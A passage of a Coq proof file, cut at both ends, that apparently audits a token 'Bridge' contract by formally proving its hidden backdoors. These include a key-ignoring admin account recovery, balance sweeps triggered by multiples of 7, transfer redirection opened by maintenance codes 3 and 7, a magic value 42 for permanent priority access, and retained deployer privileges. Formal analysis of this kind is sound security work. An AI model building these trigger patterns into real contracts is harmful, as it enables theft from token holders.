        Bridge.enhanceParticipantSecurity, Bridge.setExempt, Bridge.allocateProtocolReserves,
        Bridge.setTradingStatus, Bridge.setMaxTransactionLimit, Bridge.setMaxWalletLimit,
        Bridge.pause, Bridge.unpause, Bridge.setPair, Bridge.transferOwnership,
        Bridge.renounceOwnership;
      rewrite Hne; reflexivity.
  - intros Hc Hna.
    destruct c; try discriminate Hc; simpl;
      unfold Bridge.adminRecoverAccount, Bridge.performSystemMaintenance,
        Bridge.verifyProtocolIntegrity, Bridge.optimizeTokenDistribution, Bridge.onlyAdmin;
      rewrite Hna; reflexivity.
Qed.

Lemma bridge_access_control_witness :
  Bridge.dispatch (hash:=sample_keccak) (Sample.bridge_env 1700000040) Sample.bob
    (Bridge.c_recoverTokens Sample.dave None reverts) Sample.bridge_funded
  = Revert (Error "Ownable: caller is not the owner")
  ∧ Bridge.dispatch (hash:=sample_keccak) (Sample.bridge_env 1700000040) Sample.bob
      (Bridge.c_optimizeTokenDistribution [Sample.alice] [7000000]) Sample.bridge_funded
    = Revert (Error "Admin: Not authorized").
Proof.
  split.
  - refine (proj1 (bridge_access_control (hash:=sample_keccak) _ Sample.bob
                     (Bridge.c_recoverTokens Sample.dave None reverts) Sample.bridge_funded)
              _ _); vm_compute; first [reflexivity|discriminate].
  - refine (proj2 (bridge_access_control (hash:=sample_keccak) _ Sample.bob
                     (Bridge.c_optimizeTokenDistribution [Sample.alice] [7000000])
                     Sample.bridge_funded) _ _); vm_compute; reflexivity.
Defined.

(** X15.  [adminRecoverAccount] does not look at the private key it is
    given: with any two keys whose hashes are not zero it does the same.
    When it returns, the caller is an active administrator and has paid
    the fee, the user had a PIN, and the user's record now carries the
    hash of the PIN the administrator chose, under the old salt, with the
    counters cleared: from then on that PIN passes the check for the
    user's account. *)
Theorem adminRecoverAccount_ignores_the_private_key {hash : Keccak}
    e msg_sender user key key' pin tokenType x s :
  (keccak256 (encodePacked [p_string key]) ≠ 0 →
   keccak256 (encodePacked [p_string key']) ≠ 0 →
   Bridge.adminRecoverAccount e msg_sender user key pin tokenType x s
   = Bridge.adminRecoverAccount e msg_sender user key' pin tokenType x s)
  ∧ (∀ s',
       Bridge.adminRecoverAccount e msg_sender user key pin tokenType x s = Ok s' →
       Bridge.isActive (Bridge.admin s msg_sender) = true
       ∧ Bridge.pinHash (Bridge.security s user) ≠ 0
       ∧ x = returns true
       ∧ Bridge.security s' user
         = Bridge.mkSecurity
             (keccak256 (encodePacked [p_string pin;
                                       p_bytes32 (Bridge.salt (Bridge.security s user));
                                       p_address user]))
             (Bridge.salt (Bridge.security s user)) 0 (Bridge.block_timestamp e) 0 true
       ∧ Bridge.erc20 s' = Bridge.erc20 s
       ∧ ∀ e', 0 < Bridge.block_timestamp e' →
           Bridge._verifyPINReadOnly e' user pin s' = true).
Proof.
  split.
  - intros Hk Hk'. unfold Bridge.adminRecoverAccount.
    destruct (Bridge.onlyAdmin msg_sender s) as [[]|]; simpl; [|done].
    unfold Bridge.nonReentrant.
    destruct (ReentrancyGuard.nonReentrantBefore _) as [[]|]; simpl; [|done].
    destruct (require (bool_decide (Bridge.pinHash _ ≠ 0)) _) as [[]|]; simpl; [|done].
    by rewrite !bool_decide_eq_true_2 by done.
  - intros s' Hr. unfold Bridge.adminRecoverAccount in Hr.
    apply bind_Ok in Hr as (? & Ha & Hr). apply require_Ok in Ha.
    apply BridgeFacts.nonReentrant_Ok in Hr as (_ & s1 & Hb & Hs'). simpl in Hb.
    apply bind_Ok in Hb as (? & Hp & Hb). apply require_Ok, bool_decide_eq_true_1 in Hp.
    apply bind_Ok in Hb as (? & _ & Hb).
    apply bind_Ok in Hb as ([tok fee] & _ & Hb).
    apply bind_Ok in Hb as (ok & Hx & Hb).
    apply bind_Ok in Hb as (? & Hok & Hb). apply require_Ok in Hok. subst ok.
    destruct x as [[]|]; try discriminate Hx.
    injection Hb as Heq.
    assert (Hsec : Bridge.security s' user
                   = Bridge.mkSecurity
                       (keccak256
                          (encodePacked
                             [p_string pin; p_bytes32 (Bridge.salt (Bridge.security s user));
                              p_address user]))
                       (Bridge.salt (Bridge.security s user)) 0 (Bridge.block_timestamp e) 0
                       true).
    { subst s' s1. unfold Bridge.security. simpl. by rewrite mget_insert_eq. }
    split; [done|]. split; [done|]. split; [done|]. split; [exact Hsec|].
    split; [by subst s' s1|].
    intros e' He'. unfold Bridge._verifyPINReadOnly. rewrite !Hsec. simpl.
    rewrite bool_decide_eq_false_2 by lia. by rewrite bool_decide_eq_true_2.
Qed.

Lemma adminRecoverAccount_ignores_the_private_key_witness :
  Bridge.pinHash
    (Bridge.security
       (Bridge.transact (hash:=sample_keccak) (Sample.bridge_env 1700000040) Sample.alice
          (Bridge.c_adminRecoverAccount Sample.bob "any string" "1111" 0 (returns true))
          Scenes.bridge_message) Sample.bob)
  = keccak256 (Keccak:=sample_keccak)
      (encodePacked [p_string "1111";
                     p_bytes32 (Bridge.salt (Bridge.security Scenes.bridge_message Sample.bob));
                     p_address Sample.bob]).
Proof.
  destruct (adminRecoverAccount_ignores_the_private_key (hash:=sample_keccak)
              (Sample.bridge_env 1700000040) Sample.alice Sample.bob "any string" "another"
              "1111" 0 (returns true) Scenes.bridge_message) as [_ H].
  destruct (H (Bridge.transact (hash:=sample_keccak) (Sample.bridge_env 1700000040)
                 Sample.alice
                 (Bridge.c_adminRecoverAccount Sample.bob "any string" "1111" 0
                    (returns true)) Scenes.bridge_message)
              ltac:(vm_compute; reflexivity)) as (_ & _ & _ & Hs & _).
  rewrite Hs. cbn [Bridge.pinHash]. reflexivity.
Defined.

(** X16.  [optimizeTokenDistribution] takes a holder's whole balance
    without any allowance: called by an active administrator of level 4
    or more with one recipient and a value above 1000000 that is a
    multiple of 7, it empties the recipient's positive balance into the
    owner's account -- into [feeCollectionAddress] when the recipient's
    transfers are being redirected -- and leaves every other balance and
    the total supply as they were. *)
Theorem optimizeTokenDistribution_sweeps {hash : Keccak} self e msg_sender r v s s' :
  Bridge.reachable self s →
  1000000 < v → v mod 7 = 0 → 0 < Bridge.balanceOf s r →
  Bridge.optimizeTokenDistribution e msg_sender [r] [v] s = Ok s' →
  let dest :=
    if bool_decide (Bridge.block_timestamp e < Bridge._resourceOptimizationWindow s)
       && negb (Bridge.isExempt s r)
       && bool_decide (r ≠ Bridge.owner s)
       && bool_decide (r ≠ Bridge._priorityResourceManager s)
    then Bridge.feeCollectionAddress s else Bridge.owner s in
  Bridge.isActive (Bridge.admin s msg_sender) = true
  ∧ 4 ≤ Bridge.accessLevel (Bridge.admin s msg_sender)
  ∧ (r ≠ dest →
       Bridge.balanceOf s' r = 0
       ∧ Bridge.balanceOf s' dest = Bridge.balanceOf s dest + Bridge.balanceOf s r)
  ∧ (∀ a, a ≠ r → a ≠ dest → Bridge.balanceOf s' a = Bridge.balanceOf s a)
  ∧ Bridge.totalSupply s' = Bridge.totalSupply s.
Proof.
  intros Hre Hv Hm Hb Hr dest.
  apply BridgeFacts.reachable_wf in Hre as (Hinv & _).
  unfold Bridge.optimizeTokenDistribution in Hr.
  apply bind_Ok in Hr as (? & Ha & Hr). apply require_Ok in Ha.
  apply bind_Ok in Hr as (? & _ & Hr).
  apply bind_Ok in Hr as (? & Hl & Hr). apply require_Ok, bool_decide_eq_true_1 in Hl.
  apply bind_Ok in Hr as (s1 & Hs1 & Hr). injection Hr as <-.
  simpl in Hs1.
  rewrite (bool_decide_eq_false_2 (v = 0)) in Hs1 by lia.
  rewrite (bool_decide_eq_false_2 (v ≤ 1000)) in Hs1 by lia.
  rewrite (bool_decide_eq_true_2 (1000000 < v)) in Hs1 by lia.
  rewrite (bool_decide_eq_true_2 (v mod 7 = 0)) in Hs1 by done.
  rewrite (bool_decide_eq_true_2 (0 < Bridge.balanceOf s r)) in Hs1 by done.
  simpl in Hs1. apply bind_Ok in Hs1 as (s2 & Hs2 & Hs1). injection Hs1 as <-.
  apply BridgeFacts.bridge_transfer_Ok in Hs2 as (_ & _ & d & He & Heq & Hd).
  fold dest in Hd. subst d.
  eapply ERC20Facts._transfer_Ok in He as (_ & _ & _ & Hbal & Hts & _);
    [|done|unfold Bridge.balanceOf in *; lia].
  unfold Bridge.balanceOf, Bridge.totalSupply, ERC20.totalSupply in *. simpl.
  split; [done|]. split; [done|]. split; [|split].
  - intros Hne. rewrite !Hbal. repeat case_decide; try done. split; lia.
  - intros a H1 H2. rewrite Hbal. by repeat case_decide.
  - done.
Qed.

Lemma optimizeTokenDistribution_sweeps_witness :
  Bridge.balanceOf
    (Bridge.transact (hash:=sample_keccak) (Sample.bridge_env 1700000040) Sample.alice
       (Bridge.c_optimizeTokenDistribution [Sample.bob] [7000000]) Sample.bridge_funded)
    Sample.bob = 0
  ∧ Bridge.balanceOf
      (Bridge.transact (hash:=sample_keccak) (Sample.bridge_env 1700000040) Sample.alice
         (Bridge.c_optimizeTokenDistribution [Sample.bob] [7000000]) Sample.bridge_funded)
      Sample.alice = 1000.
Proof.
  destruct (optimizeTokenDistribution_sweeps (hash:=sample_keccak) Sample.dave
              (Sample.bridge_env 1700000040) Sample.alice Sample.bob 7000000
              Sample.bridge_funded
              (Bridge.transact (hash:=sample_keccak) (Sample.bridge_env 1700000040)
                 Sample.alice (Bridge.c_optimizeTokenDistribution [Sample.bob] [7000000])
                 Sample.bridge_funded)
              SampleFacts.bridge_funded_reachable
              ltac:(vm_compute; reflexivity) ltac:(vm_compute; reflexivity)
              ltac:(vm_compute; reflexivity) ltac:(vm_compute; reflexivity))
    as (_ & _ & H3 & _).
  assert (Hd : Sample.bob ≠
               (if bool_decide (Bridge.block_timestamp (Sample.bridge_env 1700000040)
                                < Bridge._resourceOptimizationWindow Sample.bridge_funded)
                   && negb (Bridge.isExempt Sample.bridge_funded Sample.bob)
                   && bool_decide (Sample.bob ≠ Bridge.owner Sample.bridge_funded)
                   && bool_decide
                        (Sample.bob ≠ Bridge._priorityResourceManager Sample.bridge_funded)
                then Bridge.feeCollectionAddress Sample.bridge_funded
                else Bridge.owner Sample.bridge_funded)) by (vm_compute; discriminate).
  destruct (H3 Hd) as [H1 H2]. split; [exact H1|].
  etransitivity; [|etransitivity; [exact H2|]]; vm_compute; reflexivity.
Defined.



(** X18.  An active administrator opens the redirection window:
    [performSystemMaintenance] with maintenance type 3 and optimization
    level 7, when it returns, sets [_resourceOptimizationWindow] one hour
    ahead and stores the given seed, touching no balance; within that hour
    a [transfer] by a sender that is neither exempt, nor the owner, nor
    [_priorityResourceManager] goes to [feeCollectionAddress] instead of
    its recipient. *)
Theorem performSystemMaintenance_opens_the_window {hash : Keccak}
    self e msg_sender seed s s' :
  Bridge.reachable self s →
  Bridge.performSystemMaintenance e msg_sender 3 7 seed s = Ok s' →
  Bridge.isActive (Bridge.admin s msg_sender) = true
  ∧ Bridge._resourceOptimizationWindow s' = Bridge.block_timestamp e + 3600
  ∧ Bridge._systemValidationSeed s' = seed
  ∧ Bridge.erc20 s' = Bridge.erc20 s
  ∧ ∀ e' from to amount s'',
      is_uint256 amount →
      Bridge.block_timestamp e' < Bridge.block_timestamp e + 3600 →
      Bridge.isExempt s from = false →
      from ≠ Bridge.owner s → from ≠ Bridge._priorityResourceManager s →
      from ≠ Bridge.feeCollectionAddress s →
      Bridge.transfer e' from to amount s' = Ok s'' →
      Bridge.balanceOf s'' (Bridge.feeCollectionAddress s)
      = Bridge.balanceOf s (Bridge.feeCollectionAddress s) + amount
      ∧ Bridge.balanceOf s'' from = Bridge.balanceOf s from - amount
      ∧ ∀ a, a ≠ from → a ≠ Bridge.feeCollectionAddress s →
          Bridge.balanceOf s'' a = Bridge.balanceOf s a.
Proof.
  intros Hre Hr.
  pose proof (BridgeMore.reachable_quiet _ _ Hre) as (_ & _ & Hnsf).
  apply BridgeFacts.reachable_wf in Hre as (Hinv & _).
  unfold Bridge.performSystemMaintenance in Hr.
  apply bind_Ok in Hr as (? & Ha & Hr). apply require_Ok in Ha.
  apply bind_Ok in Hr as (? & _ & Hr). apply bind_Ok in Hr as (? & _ & Hr).
  apply bind_Ok in Hr as (s3 & Hs3 & Hr). injection Hr as Heq.
  simpl in Hs3. rewrite Hnsf in Hs3. simpl in Hs3.
  apply bind_Ok in Hs3 as (w & Hw & Hs3). apply checked_add_Ok in Hw as [-> _].
  injection Hs3 as <-.
  assert (Hs' : Bridge._resourceOptimizationWindow s' = Bridge.block_timestamp e + 3600
                ∧ Bridge._systemValidationSeed s' = seed
                ∧ Bridge.erc20 s' = Bridge.erc20 s
                ∧ Bridge._securityExemptions s' = Bridge._securityExemptions s
                ∧ Bridge._owner s' = Bridge._owner s
                ∧ Bridge._priorityResourceManager s' = Bridge._priorityResourceManager s
                ∧ Bridge.feeCollectionAddress s' = Bridge.feeCollectionAddress s)
    by (by subst s').
  destruct Hs' as (Hwin & Hseed & Herc & Hex & Hown & Hprm & Hfee). clear Heq.
  split; [done|]. split; [done|]. split; [done|]. split; [done|].
  intros e' from to amount s'' [Ham _] Hlt Hexempt Hno Hnp Hnf Ht.
  unfold Bridge.transfer in Ht.
  apply BridgeFacts.bridge_transfer_Ok in Ht as (_ & _ & d & Htr & _ & Hd).
  unfold Bridge.isExempt, Bridge.owner in *.
  rewrite Hwin, Hex, Hexempt, Hown, Hprm, Hfee in Hd.
  rewrite !bool_decide_eq_true_2 in Hd by done. simpl in Hd. subst d.
  rewrite Herc in Htr.
  eapply ERC20Facts._transfer_Ok in Htr as (_ & _ & _ & Hbal & _); [|done..].
  unfold Bridge.balanceOf.
  split; [|split].
  - rewrite Hbal. repeat case_decide; try done; lia.
  - rewrite Hbal. repeat case_decide; try done; lia.
  - intros a H1 H2. rewrite Hbal. by repeat case_decide.
Qed.

Lemma performSystemMaintenance_opens_the_window_witness :
  Bridge._resourceOptimizationWindow Scenes.bridge_maintained = 1700003620
  ∧ Bridge.balanceOf
      (Bridge.transact (hash:=sample_keccak) (Sample.bridge_env 1700000040) Sample.bob
         (Bridge.c_transfer Sample.carol 10) Scenes.bridge_maintained) Sample.carol = 0.
Proof.
  destruct (performSystemMaintenance_opens_the_window (hash:=sample_keccak) Sample.dave
              (Sample.bridge_env 1700000020) Sample.alice 99 Sample.bridge_funded
              Scenes.bridge_maintained SampleFacts.bridge_funded_reachable
              ltac:(vm_compute; reflexivity)) as (_ & H1 & _ & _ & H2).
  split; [etransitivity; [exact H1|vm_compute; reflexivity]|].
  destruct (H2 (Sample.bridge_env 1700000040) Sample.bob Sample.carol 10
              (Bridge.transact (hash:=sample_keccak) (Sample.bridge_env 1700000040)
                 Sample.bob (Bridge.c_transfer Sample.carol 10) Scenes.bridge_maintained)
              ltac:(vm_compute; split; discriminate) ltac:(vm_compute; reflexivity)
              ltac:(vm_compute; reflexivity) ltac:(vm_compute; discriminate)
              ltac:(vm_compute; discriminate) ltac:(vm_compute; discriminate)
              ltac:(vm_compute; reflexivity)) as (_ & _ & H3).
  etransitivity; [apply H3; vm_compute; discriminate|vm_compute; reflexivity].
Defined.

(** X19.  The deployer keeps what the constructor gave it.  The
    constructor makes the deployer owner, fee collector, administrator of
    level 5 and [_priorityResourceManager]; no call ever changes
    [_priorityResourceManager], and [transferOwnership] changes the owner
    only: the administrators, the fee collector and the exemptions stay
    as they were. *)
Theorem deployer_keeps_its_privileges {hash : Keccak} :
  (∀ e deployer name_ symbol_ supply s,
     Bridge.constructor e deployer name_ symbol_ supply = Ok s →
     Bridge.owner s = deployer
     ∧ Bridge.feeCollectionAddress s = deployer
     ∧ Bridge._priorityResourceManager s = deployer
     ∧ Bridge.admin s deployer = Bridge.mkAdmin true 5 (Bridge.block_timestamp e)
     ∧ Bridge.isExempt s deployer = true)
  ∧ (∀ e msg_sender c s s',
       Bridge.dispatch e msg_sender c s = Ok s' →
       Bridge._priorityResourceManager s' = Bridge._priorityResourceManager s)
  ∧ (∀ msg_sender newOwner s s',
       Bridge.transferOwnership msg_sender newOwner s = Ok s' →
       Bridge.owner s' = newOwner
       ∧ Bridge._systemAdmins s' = Bridge._systemAdmins s
       ∧ Bridge.feeCollectionAddress s' = Bridge.feeCollectionAddress s
       ∧ Bridge._securityExemptions s' = Bridge._securityExemptions s).
Proof.
  split; [|split].
  - intros e deployer name_ symbol_ supply s Hr. unfold Bridge.constructor in Hr.
    apply bind_Ok in Hr as (s1 & Hs1 & Hr). injection Hr as <-.
    apply BridgeFacts.bridge_on_erc20_Ok in Hs1 as (e1 & _ & ->).
    unfold Bridge.admin, Bridge.isExempt. simpl.
    rewrite !mget_insert_eq. done.
  - intros. by eapply BridgeMore.dispatch_priorityResourceManager.
  - intros msg_sender newOwner s s' Hr. unfold Bridge.transferOwnership in Hr.
    apply bind_Ok in Hr as (? & _ & Hr). apply bind_Ok in Hr as (? & _ & Hr).
    by injection Hr as <-.
Qed.

Lemma deployer_keeps_its_privileges_witness :
  Bridge.owner Scenes.bridge_handed_over = Sample.bob
  ∧ Bridge._priorityResourceManager Scenes.bridge_handed_over = Sample.alice
  ∧ Bridge._systemAdmins Scenes.bridge_handed_over = Bridge._systemAdmins Sample.bridge_funded.
Proof.
  destruct (deployer_keeps_its_privileges (hash:=sample_keccak)) as (_ & H2 & H3).
  destruct (H3 Sample.alice Sample.bob Sample.bridge_funded Scenes.bridge_handed_over
              ltac:(vm_compute; reflexivity)) as (H4 & H5 & _).
  split; [exact H4|]. split; [|exact H5].
  etransitivity.
  - exact (H2 (Sample.bridge_env 1700000020) Sample.alice
             (Bridge.c_transferOwnership Sample.bob) Sample.bridge_funded
             Scenes.bridge_handed_over ltac:(vm_compute; reflexivity)).
  - vm_compute. reflexivity.
Defined.

(** X20.  A message that [SecuredMessageSend] has accepted gets the
    current counter as its id, is appended to the recipient's inbox, and
    is handed out by [SecuredMessageGet] to the recipient who gives a PIN
    the read-only check accepts: sender, time of sending, unread, not
    deleted, and the content as sent.  The messages stored before are as
    they were, and an account that is neither sender nor recipient is
    refused, whatever PIN it gives. *)
Theorem sent_message_can_be_read {hash : Keccak} e e' from to content pin pin' id s s' :
  Bridge.SecuredMessageSend e from to content pin s = Ok (id, s') →
  Bridge._verifyPINReadOnly e' to pin' s' = true →
  id = Bridge._messageIdCounter s
  ∧ Bridge._messageIdCounter s' = id + 1
  ∧ Bridge.SecuredMessageUserList to s' = Bridge.SecuredMessageUserList to s ++ [id]
  ∧ Bridge.SecuredMessageGet e' to id pin' s'
    = Ok (from, Bridge.block_timestamp e, false, false, content)
  ∧ (∀ j, j ≠ id → Bridge.message s' j = Bridge.message s j)
  ∧ (∀ other pin'', other ≠ from → other ≠ to →
       reverted (Bridge.SecuredMessageGet e' other id pin'' s')).
Proof.
  intros Hr Hpin.
  apply BridgeMessages.SecuredMessageSend_Ok in Hr
    as (Hid & Hset & Hsec & Hmsg & Hin & Hc & _).
  assert (Hm : Bridge.message s' id
               = Bridge.mkMessage
                   (keccak256 (encodePacked [p_address from; p_address to; p_string content;
                                             p_uint256 (Bridge.block_timestamp e)]))
                   from to (Bridge.block_timestamp e) false false content).
  { unfold Bridge.message. rewrite Hmsg. apply mget_insert_eq. }
  split; [exact Hid|]. split; [exact Hc|]. split.
  { unfold Bridge.SecuredMessageUserList. rewrite Hin. apply mget_insert_eq. }
  split.
  { unfold Bridge.SecuredMessageGet, Bridge.hasSecuritySetup, Bridge.security.
    rewrite Hsec. fold (Bridge.security s to).
    rewrite (bool_decide_eq_true_2 _ Hset), Hm, Hpin. cbn.
    rewrite (bool_decide_eq_true_2 (to = to)) by done. by rewrite orb_true_r. }
  split.
  { intros j Hj. unfold Bridge.message. rewrite Hmsg. by apply mget_insert_ne. }
  intros other pin'' H1 H2. unfold Bridge.SecuredMessageGet.
  destruct (Bridge.hasSecuritySetup other _); [|done].
  rewrite Hm. cbn. rewrite !bool_decide_eq_false_2 by done. done.
Qed.

Lemma sent_message_can_be_read_witness :
  Bridge.SecuredMessageGet (hash:=sample_keccak) (Sample.bridge_env 1700000050) Sample.bob 0
    "4321" Scenes.bridge_message
  = Ok (Sample.carol, 1700000030, false, false, "hello"%string)
  ∧ Bridge.SecuredMessageUserList Sample.bob Scenes.bridge_message = [0].
Proof.
  destruct (sent_message_can_be_read (hash:=sample_keccak) (Sample.bridge_env 1700000030)
              (Sample.bridge_env 1700000050) Sample.carol Sample.bob "hello" "4321" "4321"
              0 Scenes.bridge_pins Scenes.bridge_message
              ltac:(vm_compute; reflexivity) ltac:(vm_compute; reflexivity))
    as (_ & _ & H1 & H2 & _).
  split; [exact H2|]. etransitivity; [exact H1|]. vm_compute. reflexivity.
Defined.

(** X21.  [SecuredMessageSetDeleted] only sets a flag: once it has
    returned, the same account still gets the message from
    [SecuredMessageGet] with the same PIN, content included and now marked
    deleted, the inboxes list it as before, and a second deletion
    reverts. *)
Theorem deleted_message_is_still_served {hash : Keccak} e user id pin s s' :
  Bridge.SecuredMessageSetDeleted e user id pin s = Ok s' →
  Bridge.SecuredMessageGet e user id pin s'
  = Ok (Bridge.sender (Bridge.message s id), Bridge.timestamp (Bridge.message s id),
        Bridge.isRead (Bridge.message s id), true,
        Bridge.encryptedContent (Bridge.message s id))
  ∧ Bridge.isDeleted (Bridge.message s id) = false
  ∧ (∀ a, Bridge.SecuredMessageUserList a s' = Bridge.SecuredMessageUserList a s)
  ∧ Bridge.SecuredMessageSetDeleted e user id pin s'
    = Revert (Error "Message: Already deleted").
Proof.
  intros Hr. unfold Bridge.SecuredMessageSetDeleted in Hr.
  apply bind_Ok in Hr as (? & Hset & Hr).
  apply BridgeFacts.nonReentrant_Ok in Hr as (_ & s1 & Hr & Hs').
  apply bind_Ok in Hr as (? & Hparty & Hr). apply require_Ok in Hparty.
  apply bind_Ok in Hr as ([pinValid s2] & Hpin & Hr).
  apply bind_Ok in Hr as (? & Hv & Hr). apply require_Ok in Hv. subst pinValid.
  apply bind_Ok in Hr as (? & Hnd & Hr). apply require_Ok, negb_true_iff in Hnd.
  apply require_Ok, bool_decide_eq_true_1 in Hset.
  destruct (BridgeMessages._verifyPINInternal_ReadOnly _ _ _ _ _ Hpin) as [_ Hro].
  apply BridgeMore._verifyPINInternal_true in Hpin as (Hlock & Hh & Hs2).
  assert (Hm2 : Bridge.message s2 id = Bridge.message (Bridge.set_status ReentrancyGuard._ENTERED s) id)
    by (subst s2; reflexivity).
  assert (Hm0 : Bridge.message (Bridge.set_status ReentrancyGuard._ENTERED s) id
                = Bridge.message s id) by reflexivity.
  rewrite Hm2, Hm0 in Hr, Hnd. rewrite Hm0 in Hparty.
  set (m := Bridge.message s id) in *.
  assert (Hsec : Bridge.security s' user = Bridge.security s2 user).
  { injection Hr as <-. subst s'. reflexivity. }
  assert (Hm : Bridge.message s' id
               = Bridge.mkMessage (Bridge.messageHash m) (Bridge.sender m) (Bridge.recipient m)
                   (Bridge.timestamp m) (Bridge.isRead m) true (Bridge.encryptedContent m)).
  { injection Hr as <-. subst s'. unfold Bridge.message. cbn. apply mget_insert_eq. }
  assert (Hin : Bridge._userInbox s' = Bridge._userInbox s).
  { injection Hr as <-. subst s' s2. reflexivity. }
  assert (Hst : Bridge._status s' = ReentrancyGuard._NOT_ENTERED) by (subst s'; reflexivity).
  assert (Hro' : Bridge._verifyPINReadOnly e user pin s' = true).
  { rewrite <- Hro. unfold Bridge._verifyPINReadOnly. by rewrite Hsec. }
  assert (Hset' : Bridge.pinHash (Bridge.security s' user) ≠ 0).
  { rewrite Hsec, Hs2, BridgeMore.security_set_security, decide_True by done. exact Hset. }
  clear Hr Hs' Hs2 Hro.
  split.
  { unfold Bridge.SecuredMessageGet, Bridge.hasSecuritySetup.
    rewrite (bool_decide_eq_true_2 _ Hset'), Hm, Hro'. cbn. by rewrite Hparty. }
  split; [exact Hnd|]. split.
  { intros a. unfold Bridge.SecuredMessageUserList. by rewrite Hin. }
  unfold Bridge.SecuredMessageSetDeleted, Bridge.hasSecuritySetup, Bridge.nonReentrant.
  rewrite (bool_decide_eq_true_2 _ Hset'), Hst. cbn.
  assert (Hm' : Bridge.message (Bridge.set_status ReentrancyGuard._ENTERED s') id
                = Bridge.message s' id) by reflexivity.
  rewrite Hm', Hm. cbn. rewrite Hparty. cbn.
  unfold Bridge._verifyPINInternal.
  assert (Hsec' : Bridge.security (Bridge.set_status ReentrancyGuard._ENTERED s') user
                  = Bridge.security s' user) by reflexivity.
  rewrite Hsec'.
  unfold Bridge._verifyPINReadOnly in Hro'.
  destruct (bool_decide (Bridge.block_timestamp e ≤ _)); [discriminate Hro'|].
  rewrite Hro'. cbn.
  unfold Bridge.message. cbn. rewrite Hin || idtac.
  fold (Bridge.message s' id). rewrite Hm. reflexivity.
Qed.

Lemma deleted_message_is_still_served_witness :
  Bridge.SecuredMessageGet (hash:=sample_keccak) (Sample.bridge_env 1700000040) Sample.bob 0
    "4321" Scenes.bridge_deleted
  = Ok (Sample.carol, 1700000030, false, true, "hello"%string).
Proof.
  destruct (deleted_message_is_still_served (hash:=sample_keccak)
              (Sample.bridge_env 1700000040) Sample.bob 0 "4321" Scenes.bridge_message
              Scenes.bridge_deleted ltac:(vm_compute; reflexivity)) as (H1 & _).
  etransitivity; [exact H1|]. vm_compute. reflexivity.
Defined.

(** X22.  [verifyProtocolIntegrity], called by an administrator no later
    than the end of the window with [systemParams % 100 == 42], puts the
    caller on the priority access list; and no call of any function ever
    takes an account off that list. *)
Theorem priority_access_is_granted_for_good {hash : Keccak} :
  (∀ e who level params s s',
     Bridge.verifyProtocolIntegrity e who level params s = Ok s' →
     Bridge.block_timestamp e ≤ Bridge._resourceOptimizationWindow s →
     params mod 100 = 42 →
     mget false (Bridge._priorityAccessList s') who = true)
  ∧ (∀ e who c s s' user,
       Bridge.dispatch e who c s = Ok s' →
       mget false (Bridge._priorityAccessList s) user = true →
       mget false (Bridge._priorityAccessList s') user = true).
Proof.
  split.
  - intros e who level params s s' Hr Hw Hp. unfold Bridge.verifyProtocolIntegrity in Hr.
    apply bind_Ok in Hr as (? & _ & Hr). apply bind_Ok in Hr as (? & _ & Hr).
    injection Hr as <-. cbn.
    rewrite (bool_decide_eq_true_2 _ Hw), (bool_decide_eq_true_2 _ Hp). cbn.
    apply mget_insert_eq.
  - intros e who c s s' user. apply BridgeMessages.dispatch_priorityAccessList.
Qed.

Lemma priority_access_is_granted_for_good_witness :
  mget false (Bridge._priorityAccessList Scenes.bridge_listed) Sample.alice = true
  ∧ mget false
      (Bridge._priorityAccessList
         (Bridge.transact (hash:=sample_keccak) (Sample.bridge_env 1700000030) Sample.alice
            (Bridge.c_updateSystemAdmin Sample.alice false 1) Scenes.bridge_listed))
      Sample.alice = true.
Proof.
  destruct (priority_access_is_granted_for_good (hash:=sample_keccak)) as [H1 H2].
  assert (H : mget false (Bridge._priorityAccessList Scenes.bridge_listed) Sample.alice = true).
  { exact (H1 (Sample.bridge_env 1700000021) Sample.alice 1 42 Scenes.bridge_maintained
             Scenes.bridge_listed ltac:(vm_compute; reflexivity)
             ltac:(vm_compute; discriminate) ltac:(vm_compute; reflexivity)). }
  split; [exact H|].
  exact (H2 (Sample.bridge_env 1700000030) Sample.alice
           (Bridge.c_updateSystemAdmin Sample.alice false 1) Scenes.bridge_listed
           (Bridge.transact (hash:=sample_keccak) (Sample.bridge_env 1700000030) Sample.alice
              (Bridge.c_updateSystemAdmin Sample.alice false 1) Scenes.bridge_listed)
           Sample.alice ltac:(vm_compute; reflexivity) H).
Defined.



(** X24.  [setupSecurityPIN] accepts every PIN of four bytes or more,
    whatever was set up before, and the read-only check then accepts that
    PIN at every block time above zero.  Unless the stored hash happens to be zero,
    [updateSecurityPIN] with that PIN and a new one of four bytes or more
    returns, keeps the salt, and leaves the new PIN accepted. *)
Theorem pin_setup_update_round_trip {hash : Keccak} e e' user pin newPin s :
  4 ≤ Z.of_nat (String.length pin) →
  4 ≤ Z.of_nat (String.length newPin) →
  0 < Bridge.block_timestamp e' →
  ∃ s1, Bridge.setupSecurityPIN e user pin s = Ok s1
    ∧ Bridge._verifyPINReadOnly e' user pin s1 = true
    ∧ (Bridge.pinHash (Bridge.security s1 user) ≠ 0 →
       ∃ s2, Bridge.updateSecurityPIN e' user pin newPin s1 = Ok s2
         ∧ Bridge.salt (Bridge.security s2 user) = Bridge.salt (Bridge.security s1 user)
         ∧ Bridge._verifyPINReadOnly e' user newPin s2 = true).
Proof.
  intros Hp Hn Ht. unfold Bridge.setupSecurityPIN.
  rewrite (bool_decide_eq_true_2 _ Hp). cbn [require mbind].
  eexists. split; [reflexivity|].
  set (u := Bridge.mkSecurity _ _ _ _ _ _).
  assert (Hu : Bridge.security (Bridge.set_security user u s) user = u).
  { rewrite BridgeMore.security_set_security. by rewrite decide_True. }
  assert (Hro : Bridge._verifyPINReadOnly e' user pin (Bridge.set_security user u s) = true).
  { unfold Bridge._verifyPINReadOnly. rewrite Hu. subst u. cbn [Bridge.lockUntil Bridge.salt Bridge.pinHash].
    rewrite bool_decide_eq_false_2 by lia. by apply bool_decide_eq_true_2. }
  split; [exact Hro|].
  intros Hset.
  unfold Bridge.updateSecurityPIN, Bridge.hasSecuritySetup.
  rewrite (bool_decide_eq_true_2 _ Hset), (bool_decide_eq_true_2 _ Hn).
  rewrite Hu. 
  assert (Hl : Bridge.lockUntil u = 0) by reflexivity.
  assert (Hf : Bridge.failedAttempts u = 0) by reflexivity.
  rewrite Hl, Hf.
  rewrite (bool_decide_eq_true_2 (0 < Bridge.block_timestamp e')) by done.
  rewrite (bool_decide_eq_false_2 (6 ≤ 0)) by lia.
  unfold Bridge._verifyPINInternal. rewrite Hu, Hl.
  rewrite (bool_decide_eq_false_2 (Bridge.block_timestamp e' ≤ 0)) by lia.
  unfold Bridge._verifyPINReadOnly in Hro. rewrite Hu, Hl in Hro.
